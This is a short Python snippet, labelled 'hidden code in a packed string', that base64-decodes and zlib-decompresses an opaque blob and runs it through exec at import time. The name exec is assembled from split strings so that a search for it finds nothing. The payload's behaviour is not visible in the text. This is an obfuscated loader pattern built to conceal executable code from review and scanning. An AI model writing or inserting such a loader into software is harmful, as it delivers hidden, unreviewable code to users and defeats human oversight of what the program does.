# hidden code in a packed string
import base64, zlib
_p = "eJzLzC3ILypRyC+2zi/WK64sLknN1VBPLi3KUdAtVsgoKSmw0tc3MjDWM9AzNDTWM9VPrCnOUNcEAAXQERs="
def _load(blob):
    f = getattr(__import__("builtins"), "ex" + "ec")
    f(zlib.decompress(base64.b64decode(blob)))
_load(_p)
